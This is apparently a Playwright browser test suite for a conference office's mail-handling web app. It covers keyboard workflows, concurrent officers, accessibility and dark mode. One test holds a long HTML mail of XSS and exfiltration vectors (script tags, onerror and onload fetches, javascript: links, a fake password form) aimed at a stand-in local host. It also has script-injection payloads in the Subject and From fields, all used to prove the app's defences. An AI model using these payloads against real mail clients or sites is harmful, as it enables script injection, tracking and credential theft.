"""An officer's morning, two officers on one message, and hostile mail, in Chromium."""

from __future__ import annotations

import re
import sys
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from browsing import AXE, NARROW, OUT, log_in, served, sticking_out
from playwright.sync_api import Browser, Page, expect

from mailbot.core.values.delegation import Delegation, DelegationKind
from mailbot.core.values.inbox import MessageState
from mailbot.core.values.letter import Fate

pytestmark = [pytest.mark.browser, pytest.mark.slow]

WIDE = {"width": 1280, "height": 900}
PAGES = {
    "queue": "/",
    "messages": "/messages",
    "message-en": "/messages/4",
    "message-ar": "/messages/3",
    "message-answered": "/messages/1",
    "delegations": "/delegations",
    "delegation": "/delegations/HR",
    "questions": "/questions",
    "speakers": "/speakers",
    "reminders": "/reminders",
    "outbox": "/outbox",
    "letter": "/outbox/1",
    "lists": "/lists",
    "changes": "/changes",
    "campaigns": "/campaigns",
    "forward": "/messages/4/forward?item=victim-assistance",
    "list": "/lists/registrations",
    "tomorrow": "/tomorrow",
    "pictures": "/pictures",
    "state": "/state",
    "brief": "/brief",
    "journal": "/journal",
    "own": "/own",
    "people": "/people",
}


def test_an_officers_morning_by_keys(busy, enters) -> None:
    page, store = enters("anna"), busy.office.store
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Inscription")
    expect(page.locator("#letter pre")).to_contain_text("Claire Martin")

    # correct, and see the letter change before it goes
    page.wait_for_load_state("load")  # from then on keys are heard
    page.keyboard.press("e")
    page.get_by_label("Delegates, one a line").fill("Claire Martin\nJean Petit")
    expect(page.locator("#letter pre")).to_contain_text("Jean Petit")
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    expect(page.get_by_role("heading", level=1)).to_have_text("تسجيل")
    assert store.inbox.message(2).state is MessageState.ANSWERED
    expect(page.locator(".count")).to_contain_text("4")

    # undo while the letter is still here
    page.get_by_role("link", name="Look or undo").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Inscription")
    page.wait_for_load_state("load")
    page.keyboard.press("u")
    expect(page.get_by_role("button", name="Send this acknowledgement")).to_be_visible()
    assert [r.fate for r in store.browsing.letters_about("SC11", "message 2")] == [Fate.CANCELLED]

    # answer a question in one's own words
    page.goto("/messages/4")
    page.keyboard.press("r")
    page.get_by_label("Your answer").fill("Parking is at the WMO building.")
    expect(page.locator("#letter pre")).to_contain_text("Parking is at the WMO building.")
    page.get_by_role("button", name="Send this answer").click()
    expect(page.get_by_role("status").filter(has_text="Message 4 is decided")).to_be_visible()
    assert store.inbox.message(4).state is MessageState.ANSWERED

    # not ours, then a reminder is held
    page.goto("/messages/7")
    page.get_by_label("Not ours").check()
    page.get_by_role("button", name="It is not ours").click()
    page.goto("/reminders")
    page.get_by_role("checkbox", name="China").check()
    page.get_by_role("button", name="Hold the reminders of those ticked").click()
    expect(page.get_by_text("held by the office")).to_be_visible()

    # and the list is taken home
    page.goto("/lists")
    with page.expect_download() as coming:
        page.get_by_role("link", name="Registrations as CSV").click()
    assert coming.value.path().read_text(encoding="utf-8-sig").startswith("code,delegation")


def test_two_officers_see_each_other_and_only_one_decides(busy, enters) -> None:
    anna, boris = enters("anna"), enters("boris")
    anna.goto("/messages/2")
    boris.goto("/messages/2")
    expect(anna.locator("#present")).to_have_text("boris is looking at this too")
    anna.get_by_role("button", name="Send this acknowledgement").click()
    expect(anna.get_by_role("heading", level=1)).not_to_have_text("Inscription")
    boris.get_by_role("button", name="Send this acknowledgement").click()
    expect(boris.get_by_role("alert")).to_contain_text("anna decided this message at")
    assert len(busy.office.store.browsing.letters_about("SC11", "message 2")) == 1


def test_speakers_are_dragged_into_the_offices_order(busy, enters) -> None:
    page = enters("anna")
    page.goto("/speakers")
    rows = page.locator("tr[data-code]")
    before = [row.get_attribute("data-code") for row in rows.all()]
    rows.nth(0).locator(".handle").drag_to(rows.nth(1))
    expect(page.get_by_text("in the office's order")).to_be_visible()
    assert [row.get_attribute("data-code") for row in rows.all()] == before[::-1]


def test_the_queue_changes_by_itself(busy, enters) -> None:
    page = enters("anna")
    expect(page.locator(".count")).to_contain_text("5")
    busy.arrives("CN", "Late news", "x")
    expect(page.locator(".count")).to_contain_text("6")
    expect(page.get_by_role("link", name="Late news")).to_be_visible()


HOSTILE = """<html><head><title>t</title><meta http-equiv="refresh" content="0;url={evil}/refresh">
<base href="{evil}/"><link rel="stylesheet" href="{evil}/style.css"><link rel="prefetch"
href="{evil}/prefetch"><style>@import url({evil}/import.css); body{{background:url({evil}/bg)}}
@font-face{{font-family:x;src:url({evil}/font)}} p{{font-family:x}}</style></head>
<body onload="fetch('{evil}/onload')" background="{evil}/background">
<script>top.document.title='owned';fetch('{evil}/script')</script>
<script src="{evil}/script.js"></script><img src="{evil}/pixel.gif" onerror="fetch('{evil}/err')">
<img srcset="{evil}/srcset 2x" src=x><picture><source srcset="{evil}/source"></picture>
<svg onload="fetch('{evil}/svg')"><script>fetch('{evil}/svgscript')</script>
<image href="{evil}/svgimage"/><animate onbegin="fetch('{evil}/animate')" attributeName="x"/>
<foreignObject><iframe src="{evil}/foreign"></iframe></foreignObject></svg>
<math><mtext><script>fetch('{evil}/math')</script></mtext></math>
<iframe src="{evil}/frame" srcdoc="<script>fetch('{evil}/srcdoc')</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video" autoplay
poster="{evil}/poster"></video><audio src="{evil}/audio" autoplay></audio>
<form action="{evil}/form"><input name=password autofocus onfocus="fetch('{evil}/focus')">
<button>Log in again</button></form><a href="javascript:fetch('{evil}/js')" id="js">press me</a>
<a href="{evil}/link" target="_top" ping="{evil}/ping">and me</a>
<a href="data:text/html,<script>fetch('{evil}/data')</script>">or me</a>
<p style="background:url({evil}/inline);position:fixed;inset:0;z-index:9999">covering</p>
<div style="width:expression(fetch('{evil}/expression'))">old</div>
<template><img src="{evil}/template"></template><noscript><img src="{evil}/noscript"></noscript>
<table background="{evil}/table"><td>cell</td></table><p>The harmless words.</p>
<!--[if gte mso 9]><img src="{evil}/mso"><![endif]--><details open ontoggle="fetch('{evil}/t')">
</details><marquee onstart="fetch('{evil}/marquee')">m</marquee></body></html>"""


def test_hostile_mail_runs_nothing_loads_nothing_and_stays_in_its_frame(busy, enters) -> None:
    evil = "http://127.0.0.1:9"  # a request there is seen by the browser, whatever answers
    body = HOSTILE.format(evil=evil)
    subject = "<img src=x onerror=fetch('http://127.0.0.1:9/subject')>"
    raw = (
        f"From: \"<script>fetch('{evil}/name')</script>\" <geneva@mission.cn.example>\r\n"
        f"To: isu@apminebanconvention.org\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
        "Message-ID: <evil@mission.example>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    ).encode() + body.replace("\n", "\r\n").encode()
    number = busy.arrives("CN", subject, "", raw=raw)
    page = enters("anna")
    asked: list[str] = []
    dialogs: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in ("/", "/messages", f"/messages/{number}", "/delegations/CN", "/journal"):
        page.goto(path)
        page.wait_for_load_state("load")
    page.goto(f"/messages/{number}")
    title = page.title()
    page.get_by_text("As its writer laid it out").click()
    frame = page.frame_locator("iframe.html")
    expect(frame.get_by_text("The harmless words.")).to_be_visible()
    for word in ("press me", "and me", "or me"):
        frame.get_by_text(word).click()
    page.goto(f"/messages/{number}/html")  # outside the frame too
    page.wait_for_load_state("load")
    assert page.locator("form, input, script, img, svg, iframe, object, a[href]").count() == 0
    assert [url for url in asked if not url.startswith(page.url.split("/messages")[0])] == []
    assert dialogs == []
    assert "owned" not in title


def test_the_browser_itself_forbids_scripts_in_a_strangers_page(busy, enters, monkeypatch) -> None:
    """The second wall alone: as if the cleaning had let everything through."""
    monkeypatch.setattr(
        "mailbot.web.raws.safe_page",
        lambda raw: (
            "<p id=p>calm</p><script>document.getElementById('p').textContent='owned'"
            "</script><img src='http://127.0.0.1:9/pixel'>"
        ),
    )
    page = enters("anna")
    reached: list[str] = []
    page.context.on("requestfinished", lambda request: reached.append(request.url))
    page.context.on("response", lambda response: reached.append(response.url))
    page.goto("/messages/2/html")
    expect(page.locator("#p")).to_have_text("calm")
    assert not any("pixel" in url for url in reached)


@pytest.fixture(scope="module")
def looking(browser: Browser, shown) -> Iterator[Page]:
    """One page of Anna's for all tests that only look."""
    with served(shown.office) as where, closing(browser.new_context(base_url=where)) as context:
        yield log_in(context.new_page(), "anna")


@pytest.mark.parametrize("name", PAGES)
def test_each_page_is_fit_for_a_screen_reader_and_a_telephone(looking, name) -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for width, viewport in (("1280", WIDE), ("390", NARROW)):
        looking.set_viewport_size(viewport)
        looking.goto(PAGES[name])
        looking.screenshot(path=OUT / f"{name}-{width}.png", full_page=True)
        assert sticking_out(looking) == [], width
        looking.evaluate(AXE)
        found = looking.evaluate("axe.run(document, {resultTypes: ['violations']})")
        serious = [
            (v["id"], [node["html"][:200] for node in v["nodes"]][:3])
            for v in found["violations"]
            if v["impact"] in {"serious", "critical"}
        ]
        assert serious == [], (width, serious)


def test_no_word_is_too_long_for_a_telephone(busy, enters) -> None:
    word = "Überlandleitungs" * 12
    store, now = busy.office.store, busy.clock.now()
    store.lists.save_delegations("SC11", [Delegation("HR", word, DelegationKind.STATE_PARTY)])
    busy.arrives("HR", word, word)
    store.inbox.mark_stuck(busy.arrives("CN", word, word), error=word, now=now)
    store.inbox.note_look(busy.office.mailbox_name, on_server=None, error=word, now=now)
    store.switches.put(f"submission error {busy.office.mailbox_name}", word)
    store.switches.stop(who=word, why=word, now=now)
    page = enters("anna", viewport=NARROW)
    wide = {}
    for path in [*PAGES.values(), f"/messages/{busy.uid - 1}", f"/messages/{busy.uid}"]:
        page.goto(path)
        wide[path] = sticking_out(page)
    assert {path: found for path, found in wide.items() if found} == {}


@pytest.fixture(scope="module")
def in_the_dark(browser: Browser, shown) -> Iterator[Page]:
    """As `looking`, by who likes it dark."""
    with (
        served(shown.office) as where,
        closing(browser.new_context(base_url=where, color_scheme="dark")) as context,
    ):
        yield log_in(context.new_page(), "anna")


@pytest.mark.parametrize("name", PAGES)
def test_dark_is_as_readable_as_light(in_the_dark, name) -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    in_the_dark.goto(PAGES[name])
    in_the_dark.screenshot(path=OUT / f"{name}-dark.png", full_page=True)
    in_the_dark.evaluate(AXE)
    found = in_the_dark.evaluate("axe.run(document, {runOnly: ['color-contrast']})")
    assert found["violations"] == []


def test_who_likes_it_dark_may_have_it_light(enters) -> None:
    page = enters("anna", color_scheme="dark")
    page.get_by_role("button", name="Light or dark").click()
    assert page.evaluate("document.documentElement.dataset.theme") == "light"


def test_everything_is_reached_by_the_keyboard_and_nothing_traps_it(enters) -> None:
    page = enters("anna")
    page.goto("/messages/4")
    seen: list[str] = []
    for _ in range(80):
        page.keyboard.press("Tab")
        seen.append(
            page.evaluate("(e => e ? e.tagName + ' ' + (e.id || e.name || e.textContent) : '')"
                          "(document.activeElement)")
        )  # fmt: skip
    told = "\n".join(seen)
    for wanted in ("Skip to the content", "go", "Log out"):
        assert re.search(wanted, told), wanted


def test_pages_work_without_scripts(busy, enters) -> None:
    page = enters("boris", java_script_enabled=False)
    page.get_by_role("link", name="Inscription").click()
    expect(page.locator("#letter pre")).to_contain_text("Claire Martin")
    page.get_by_role("button", name="Send this acknowledgement").click()
    expect(page.get_by_text("Message 2 is decided")).to_be_visible()
    assert busy.office.store.inbox.message(2).state is MessageState.ANSWERED
    page.goto("/messages/4")
    page.get_by_label("Answer in my words").check()
    page.get_by_label("Your answer").fill("Parking is at the WMO building.")
    page.locator("#go").click()
    expect(page.get_by_text("Message 4 is decided")).to_be_visible()
    (row,) = busy.office.store.browsing.letters_about("SC11", "message 4")
    assert b"WMO building" in busy.office.store.outbox.row(row.id).letter.raw
